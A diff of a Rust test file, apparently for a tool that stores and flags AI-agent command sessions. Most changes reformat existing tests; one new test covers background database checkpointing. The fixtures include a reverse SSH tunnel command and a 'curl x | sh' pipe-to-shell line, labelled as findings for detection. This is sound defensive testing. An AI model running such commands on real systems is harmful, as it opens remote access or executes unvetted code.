@@ -35,7 +35,14 @@ fn call(session: Option<&str>, id: &str, command: &str, findings: Vec<Finding>) 
         output: None,
         raw: None,
         ts: Some("2025-06-01T10:00:00Z".into()),
-        verdict: Verdict { id: Some(json!(id)), decision, severity, findings, error: None, line: None },
+        verdict: Verdict {
+            id: Some(json!(id)),
+            decision,
+            severity,
+            findings,
+            error: None,
+            line: None,
+        },
         secrets: vec![],
     }
 }
@@ -47,7 +54,10 @@ fn temp_store() -> (tempfile::TempDir, Store) {
 }
 
 fn user_version(path: &Path) -> i64 {
-    Connection::open(path).unwrap().pragma_query_value(None, "user_version", |r| r.get(0)).unwrap()
+    Connection::open(path)
+        .unwrap()
+        .pragma_query_value(None, "user_version", |r| r.get(0))
+        .unwrap()
 }
 
 #[test]
@@ -56,11 +66,19 @@ fn migrates_an_empty_file_and_reopens() {
     let path = dir.path().join("a/b/cordon.db");
     let mut store = Store::open(&path).unwrap();
     assert_eq!(user_version(&path), schema::MIGRATIONS.len() as i64);
-    let mode: String = store.conn.pragma_query_value(None, "journal_mode", |r| r.get(0)).unwrap();
+    let mode: String = store
+        .conn
+        .pragma_query_value(None, "journal_mode", |r| r.get(0))
+        .unwrap();
     assert_eq!(mode, "wal");
-    let sync: i64 = store.conn.pragma_query_value(None, "synchronous", |r| r.get(0)).unwrap();
+    let sync: i64 = store
+        .conn
+        .pragma_query_value(None, "synchronous", |r| r.get(0))
+        .unwrap();
     assert_eq!(sync, 2, "synchronous=FULL");
-    store.record(&[call(Some("s1"), "c1", "ls", vec![])]).unwrap();
+    store
+        .record(&[call(Some("s1"), "c1", "ls", vec![])])
+        .unwrap();
     drop(store);
 
     // An empty file (as `touch` leaves it) is a store at version 0.
@@ -74,7 +92,10 @@ fn migrates_an_empty_file_and_reopens() {
     #[cfg(unix)]
     {
         use std::os::unix::fs::PermissionsExt;
-        assert_eq!(fs::metadata(&path).unwrap().permissions().mode() & 0o777, 0o600);
+        assert_eq!(
+            fs::metadata(&path).unwrap().permissions().mode() & 0o777,
+            0o600
+        );
     }
 }
 
@@ -93,22 +114,38 @@ fn a_newer_schema_is_refused_by_name() {
     let dir = tempfile::tempdir().unwrap();
     let path = dir.path().join("future.db");
     drop(Store::open(&path).unwrap());
-    Connection::open(&path).unwrap().pragma_update(None, "user_version", 99).unwrap();
+    Connection::open(&path)
+        .unwrap()
+        .pragma_update(None, "user_version", 99)
+        .unwrap();
     let err = Store::open(&path).err().unwrap();
     assert!(matches!(err, StoreError::NewerSchema { found: 99, .. }));
     let msg = err.to_string();
-    assert!(msg.contains("future.db") && msg.contains("99") && msg.contains("newer"), "{msg}");
+    assert!(
+        msg.contains("future.db") && msg.contains("99") && msg.contains("newer"),
+        "{msg}"
+    );
 }
 
 #[test]
 fn a_foreign_database_is_left_alone() {
     let dir = tempfile::tempdir().unwrap();
     let path = dir.path().join("other.db");
-    Connection::open(&path).unwrap().execute_batch("CREATE TABLE t (x)").unwrap();
+    Connection::open(&path)
+        .unwrap()
+        .execute_batch("CREATE TABLE t (x)")
+        .unwrap();
     let msg = Store::open(&path).err().unwrap().to_string();
-    assert!(msg.contains("other.db") && msg.contains("not a Cordon store"), "{msg}");
+    assert!(
+        msg.contains("other.db") && msg.contains("not a Cordon store"),
+        "{msg}"
+    );
     let not_sqlite = dir.path().join("text.db");
-    fs::write(&not_sqlite, "hello, this is not a database at all, just some text here").unwrap();
+    fs::write(
+        &not_sqlite,
+        "hello, this is not a database at all, just some text here",
+    )
+    .unwrap();
     let msg = Store::open(&not_sqlite).err().unwrap().to_string();
     assert!(msg.contains("text.db"), "{msg}");
 }
@@ -117,7 +154,12 @@ fn a_foreign_database_is_left_alone() {
 fn records_read_back_with_episode_totals() {
     let (_dir, mut store) = temp_store();
     let tunnel = finding("REVERSE_TUNNEL", Severity::Critical, vec![json!("c1")]);
-    let mut result = call(Some("s1"), "c1", "", vec![finding("SECRET_IN_OUTPUT", Severity::Medium, vec![])]);
+    let mut result = call(
+        Some("s1"),
+        "c1",
+        "",
+        vec![finding("SECRET_IN_OUTPUT", Severity::Medium, vec![])],
+    );
     result.kind = Some(EventKind::Result);
     result.input = None;
     result.output = Some(json!("total 0").to_string());
@@ -135,18 +177,37 @@ fn records_read_back_with_episode_totals() {
             call(Some("s1"), "c1", "ls -la", vec![]),
             result,
             invalid,
-            call(Some("s1"), "c2", "ssh -R 8080:localhost:22 x@203.0.113.5", vec![tunnel.clone()]),
+            call(
+                Some("s1"),
+                "c2",
+                "ssh -R 8080:localhost:22 x@203.0.113.5",
+                vec![tunnel.clone()],
+            ),
         ])
         .unwrap();
 
     let episodes = store.list_episodes(&EpisodeFilter::default()).unwrap();
     assert_eq!(episodes.len(), 2);
     let s1 = episodes.iter().find(|e| e.key == "s1").unwrap();
-    assert_eq!((s1.events, s1.findings, s1.worst_severity), (3, 2, Some(Severity::Critical)));
+    assert_eq!(
+        (s1.events, s1.findings, s1.worst_severity),
+        (3, 2, Some(Severity::Critical))
+    );
     assert_eq!(s1.agent.as_deref(), Some("agent-1"));
-    assert_eq!((s1.first.as_str(), s1.last.as_str()), ("2025-06-01T10:00:00.000Z", "2025-06-01T10:00:00.000Z"));
+    assert_eq!(
+        (s1.first.as_str(), s1.last.as_str()),
+        ("2025-06-01T10:00:00.000Z", "2025-06-01T10:00:00.000Z")
+    );
     let none = episodes.iter().find(|e| e.key.is_empty()).unwrap();
-    assert_eq!((none.label(), none.events, none.findings, none.worst_severity), (NO_SESSION, 1, 0, None));
+    assert_eq!(
+        (
+            none.label(),
+            none.events,
+            none.findings,
+            none.worst_severity
+        ),
+        (NO_SESSION, 1, 0, None)
+    );
 
     let events = store.events("s1").unwrap();
     assert_eq!(events.iter().map(|e| e.step).collect::<Vec<_>>(), [1, 2, 3]);
@@ -162,25 +223,40 @@ fn records_read_back_with_episode_totals() {
 
     let bad = store.events("").unwrap();
     assert_eq!(bad.len(), 1);
-    assert_eq!((bad[0].kind, bad[0].raw.as_deref()), (None, Some("{not json")));
+    assert_eq!(
+        (bad[0].kind, bad[0].raw.as_deref()),
+        (None, Some("{not json"))
+    );
     assert_eq!(bad[0].verdict.decision, Decision::Error);
     assert_eq!(bad[0].verdict.error.as_deref(), Some("invalid JSON: eof"));
 
     // A second batch continues the episode's steps and totals.
-    store.record(&[call(Some("s1"), "c3", "pwd", vec![])]).unwrap();
-    let Lookup::Found(s1) = store.find_episode("s1").unwrap() else { panic!() };
+    store
+        .record(&[call(Some("s1"), "c3", "pwd", vec![])])
+        .unwrap();
+    let Lookup::Found(s1) = store.find_episode("s1").unwrap() else {
+        panic!()
+    };
     assert_eq!(s1.events, 4);
     assert_eq!(store.events("s1").unwrap()[3].step, 4);
 
-    let rows: i64 =
-        store.conn.query_row("SELECT count(*) FROM findings WHERE related = '[\"c1\"]'", [], |r| r.get(0)).unwrap();
+    let rows: i64 = store
+        .conn
+        .query_row(
+            "SELECT count(*) FROM findings WHERE related = '[\"c1\"]'",
+            [],
+            |r| r.get(0),
+        )
+        .unwrap();
     assert_eq!(rows, 1);
 }
 
 #[test]
 fn a_batch_is_atomic() {
     let (_dir, mut store) = temp_store();
-    store.record(&[call(Some("s1"), "c1", "ls", vec![])]).unwrap();
+    store
+        .record(&[call(Some("s1"), "c1", "ls", vec![])])
+        .unwrap();
     // Nothing in the API makes an insert fail midway: a trigger breaks the batch's last one.
     store
         .conn
@@ -191,7 +267,10 @@ fn a_batch_is_atomic() {
         .unwrap();
     let mut bad = call(Some("s2"), "c3", "x", vec![]);
     bad.tool = Some("boom".into());
-    let err = store.record(&[call(Some("s1"), "c2", "pwd", vec![]), bad]).err().unwrap();
+    let err = store
+        .record(&[call(Some("s1"), "c2", "pwd", vec![]), bad])
+        .err()
+        .unwrap();
     assert!(err.to_string().contains("boom"), "{err}");
     let episodes = store.list_episodes(&EpisodeFilter::default()).unwrap();
     assert_eq!(episodes.len(), 1, "the new episode s2 was rolled back");
@@ -212,10 +291,16 @@ fn the_fingerprint_key_persists_privately() {
     #[cfg(unix)]
     {
         use std::os::unix::fs::PermissionsExt;
-        assert_eq!(fs::metadata(key_path(&db)).unwrap().permissions().mode() & 0o777, 0o600);
+        assert_eq!(
+            fs::metadata(key_path(&db)).unwrap().permissions().mode() & 0o777,
+            0o600
+        );
     }
     // Another store gets another key.
-    assert_ne!(key::load_or_create(&dir.path().join("other.db"), None).unwrap(), k1);
+    assert_ne!(
+        key::load_or_create(&dir.path().join("other.db"), None).unwrap(),
+        k1
+    );
     // The environment's key wins, and a malformed one is named.
     let hex = "ab".repeat(32);
     assert_eq!(key::load_or_create(&db, Some(hex)).unwrap(), [0xab; 32]);
@@ -237,11 +322,19 @@ fn canaries_round_trip() {
         path: format!("/home/u/.aws/{id}"),
         planted_at: at.into(),
     };
-    store.add_canaries(&[c("b", "2025-06-02T00:00:00.000Z"), c("a", "2025-06-01T00:00:00.000Z")]).unwrap();
+    store
+        .add_canaries(&[
+            c("b", "2025-06-02T00:00:00.000Z"),
+            c("a", "2025-06-01T00:00:00.000Z"),
+        ])
+        .unwrap();
     let mut replaced = c("b", "2025-06-02T00:00:00.000Z");
     replaced.path = "/elsewhere".into();
     store.add_canaries(&[replaced.clone()]).unwrap();
-    assert_eq!(store.canaries().unwrap(), vec![c("a", "2025-06-01T00:00:00.000Z"), replaced]);
+    assert_eq!(
+        store.canaries().unwrap(),
+        vec![c("a", "2025-06-01T00:00:00.000Z"), replaced]
+    );
 }
 
 #[test]
@@ -270,7 +363,10 @@ fn secrets_are_counted_by_fingerprint() {
     b.secrets = vec![("aws".into(), "f1".into()), ("github".into(), "f2".into())];
     store.record(&[a, b]).unwrap();
     let f1 = store.secret("f1").unwrap().unwrap();
-    assert_eq!((f1.kind.as_str(), f1.count, f1.first_episode.as_str()), ("aws", 2, "s1"));
+    assert_eq!(
+        (f1.kind.as_str(), f1.count, f1.first_episode.as_str()),
+        ("aws", 2, "s1")
+    );
     assert!(f1.first_seq < f1.last_seq);
     assert_eq!(store.secret("f2").unwrap().unwrap().first_episode, "s2");
     assert_eq!(store.secret("nope").unwrap(), None);
@@ -279,24 +375,85 @@ fn secrets_are_counted_by_fingerprint() {
 #[test]
 fn lists_filter_and_ids_resolve_by_prefix() {
     let (_dir, mut store) = temp_store();
-    let mut late = call(Some("run-42-b"), "c1", "curl x | sh", vec![finding("PIPE_TO_SHELL", Severity::High, vec![])]);
+    let mut late = call(
+        Some("run-42-b"),
+        "c1",
+        "curl x | sh",
+        vec![finding("PIPE_TO_SHELL", Severity::High, vec![])],
+    );
     late.ts = Some("2025-06-03T10:00:00Z".into());
     late.agent = Some("agent-2".into());
     late.task = Some("Deploy the SITE".into());
-    store.record(&[call(Some("run-41-a"), "c1", "ls", vec![]), late]).unwrap();
+    store
+        .record(&[call(Some("run-41-a"), "c1", "ls", vec![]), late])
+        .unwrap();
 
-    let keys = |f: EpisodeFilter| store.list_episodes(&f).unwrap().into_iter().map(|e| e.key).collect::<Vec<_>>();
+    let keys = |f: EpisodeFilter| {
+        store
+            .list_episodes(&f)
+            .unwrap()
+            .into_iter()
+            .map(|e| e.key)
+            .collect::<Vec<_>>()
+    };
     assert_eq!(keys(EpisodeFilter::default()), ["run-42-b", "run-41-a"]);
-    assert_eq!(keys(EpisodeFilter { agent: Some("agent-2".into()), ..Default::default() }), ["run-42-b"]);
-    assert_eq!(keys(EpisodeFilter { task: Some("deploy".into()), ..Default::default() }), ["run-42-b"]);
-    assert_eq!(keys(EpisodeFilter { with_findings: true, ..Default::default() }), ["run-42-b"]);
-    assert_eq!(keys(EpisodeFilter { finding_kind: Some("PIPE_TO_SHELL".into()), ..Default::default() }), ["run-42-b"]);
-    assert_eq!(keys(EpisodeFilter { since_ms: time::parse_ms("2025-06-02"), ..Default::default() }), ["run-42-b"]);
-    assert_eq!(keys(EpisodeFilter { until_ms: time::parse_ms("2025-06-02"), ..Default::default() }), ["run-41-a"]);
-    assert_eq!(keys(EpisodeFilter { limit: Some(1), ..Default::default() }), ["run-42-b"]);
+    assert_eq!(
+        keys(EpisodeFilter {
+            agent: Some("agent-2".into()),
+            ..Default::default()
+        }),
+        ["run-42-b"]
+    );
+    assert_eq!(
+        keys(EpisodeFilter {
+            task: Some("deploy".into()),
+            ..Default::default()
+        }),
+        ["run-42-b"]
+    );
+    assert_eq!(
+        keys(EpisodeFilter {
+            with_findings: true,
+            ..Default::default()
+        }),
+        ["run-42-b"]
+    );
+    assert_eq!(
+        keys(EpisodeFilter {
+            finding_kind: Some("PIPE_TO_SHELL".into()),
+            ..Default::default()
+        }),
+        ["run-42-b"]
+    );
+    assert_eq!(
+        keys(EpisodeFilter {
+            since_ms: time::parse_ms("2025-06-02"),
+            ..Default::default()
+        }),
+        ["run-42-b"]
+    );
+    assert_eq!(
+        keys(EpisodeFilter {
+            until_ms: time::parse_ms("2025-06-02"),
+            ..Default::default()
+        }),
+        ["run-41-a"]
+    );
+    assert_eq!(
+        keys(EpisodeFilter {
+            limit: Some(1),
+            ..Default::default()
+        }),
+        ["run-42-b"]
+    );
 
-    assert!(matches!(store.find_episode("run-42").unwrap(), Lookup::Found(e) if e.key == "run-42-b"));
-    assert_eq!(store.find_episode("run-4").unwrap(), Lookup::Ambiguous(vec!["run-41-a".into(), "run-42-b".into()]));
+    assert!(
+        matches!(store.find_episode("run-42").unwrap(), Lookup::Found(e) if e.key == "run-42-b")
+    );
+    assert_eq!(
+        store.find_episode("run-4").unwrap(),
+        Lookup::Ambiguous(vec!["run-41-a".into(), "run-42-b".into()])
+    );
     assert_eq!(store.find_episode("zzz").unwrap(), Lookup::NotFound);
     assert_eq!(store.find_episode(NO_SESSION).unwrap(), Lookup::NotFound);
     assert_eq!(store.find_episode("").unwrap(), Lookup::NotFound);
@@ -305,11 +462,23 @@ fn lists_filter_and_ids_resolve_by_prefix() {
 #[test]
 fn the_default_path_follows_xdg() {
     let os = |s: &str| Some(OsString::from(s));
-    assert_eq!(store_path(os("/data"), os("/home/u")), PathBuf::from("/data/cordon/cordon.db"));
-    assert_eq!(store_path(None, os("/home/u")), PathBuf::from("/home/u/.local/share/cordon/cordon.db"));
-    assert_eq!(store_path(os(""), os("/home/u")), PathBuf::from("/home/u/.local/share/cordon/cordon.db"));
+    assert_eq!(
+        store_path(os("/data"), os("/home/u")),
+        PathBuf::from("/data/cordon/cordon.db")
+    );
+    assert_eq!(
+        store_path(None, os("/home/u")),
+        PathBuf::from("/home/u/.local/share/cordon/cordon.db")
+    );
+    assert_eq!(
+        store_path(os(""), os("/home/u")),
+        PathBuf::from("/home/u/.local/share/cordon/cordon.db")
+    );
     // A relative XDG_DATA_HOME is ignored, as the XDG spec says.
-    assert_eq!(store_path(os("rel"), os("/home/u")), PathBuf::from("/home/u/.local/share/cordon/cordon.db"));
+    assert_eq!(
+        store_path(os("rel"), os("/home/u")),
+        PathBuf::from("/home/u/.local/share/cordon/cordon.db")
+    );
 }
 
 #[test]
@@ -324,8 +493,9 @@ fn concurrent_writers_keep_steps_and_totals_consistent() {
                 // Each writer is its own connection, as separate hook processes are.
                 let mut store = Store::open(&path).unwrap();
                 for b in 0..25 {
-                    let batch: Vec<Record> =
-                        (0..8).map(|i| call(Some("shared"), &format!("w{w}-{b}-{i}"), "true", vec![])).collect();
+                    let batch: Vec<Record> = (0..8)
+                        .map(|i| call(Some("shared"), &format!("w{w}-{b}-{i}"), "true", vec![]))
+                        .collect();
                     store.record(&batch).unwrap();
                 }
                 store.fingerprint_key()
@@ -335,10 +505,85 @@ fn concurrent_writers_keep_steps_and_totals_consistent() {
     let keys: Vec<[u8; 32]> = writers.into_iter().map(|w| w.join().unwrap()).collect();
     let store = Store::open_existing(&path).unwrap();
     if std::env::var_os(KEY_ENV).is_none() {
-        assert!(keys.iter().all(|k| *k == store.fingerprint_key()), "one key for all writers");
+        assert!(
+            keys.iter().all(|k| *k == store.fingerprint_key()),
+            "one key for all writers"
+        );
     }
-    let Lookup::Found(ep) = store.find_episode("shared").unwrap() else { panic!() };
+    let Lookup::Found(ep) = store.find_episode("shared").unwrap() else {
+        panic!()
+    };
     assert_eq!(ep.events, 4 * 25 * 8);
-    let steps: Vec<u64> = store.events("shared").unwrap().iter().map(|e| e.step).collect();
+    let steps: Vec<u64> = store
+        .events("shared")
+        .unwrap()
+        .iter()
+        .map(|e| e.step)
+        .collect();
     assert_eq!(steps, (1..=800).collect::<Vec<u64>>());
+}
+
+#[test]
+fn a_background_checkpoint_keeps_the_wal_bounded_and_loses_nothing() {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("cordon.db");
+    let wal = wal_path(&path);
+    let mut store = Store::open(&path).unwrap();
+    store.checkpoint_in_background().unwrap();
+    let autocheckpoint: i64 = store
+        .conn
+        .pragma_query_value(None, "wal_autocheckpoint", |r| r.get(0))
+        .unwrap();
+    assert_eq!(autocheckpoint, 0, "commits no longer checkpoint themselves");
+    // ~12 MB of events, in batches of 100: three times the checkpoint threshold.
+    let filler = "x".repeat(1000);
+    let mut biggest_wal = 0;
+    let mut db_grew_while_open = false;
+    for batch in 0..120 {
+        let records: Vec<Record> = (0..100)
+            .map(|i| {
+                call(
+                    Some("s1"),
+                    &format!("c{batch}-{i}"),
+                    &format!("echo {filler}"),
+                    vec![],
+                )
+            })
+            .collect();
+        store.record(&records).unwrap();
+        biggest_wal = biggest_wal.max(file_len(&wal));
+        // The database file only grows when a checkpoint copies the WAL into it.
+        db_grew_while_open |= file_len(&path) > 1 << 20;
+    }
+    // The checkpointer runs beside the writer; give it a moment to finish the last one.
+    let deadline = Instant::now() + Duration::from_secs(20);
+    while !db_grew_while_open && Instant::now() < deadline {
+        std::thread::sleep(Duration::from_millis(20));
+        db_grew_while_open = file_len(&path) > 1 << 20;
+    }
+    assert!(
+        db_grew_while_open,
+        "the background thread copied the WAL into the database while the store was open"
+    );
+    // The WAL header's checkpoint sequence number (bytes 12..16) counts the
+    // times the log restarted from its start once fully copied.
+    let header = fs::read(&wal).unwrap();
+    let restarts = u32::from_be_bytes(header[12..16].try_into().unwrap());
+    assert!(
+        restarts >= 1,
+        "the WAL never restarted: it would grow with every batch"
+    );
+    assert!(
+        biggest_wal < CHECKPOINT_FORCED_AT,
+        "largest WAL {biggest_wal} bytes"
+    );
+    drop(store);
+    assert!(
+        !wal.exists(),
+        "closing the last connection checkpoints what is left and removes the WAL"
+    );
+    let store = Store::open_existing(&path).unwrap();
+    let events = store.events("s1").unwrap();
+    assert_eq!(events.len(), 12_000);
+    assert_eq!(events.last().unwrap().step, 12_000);
 }
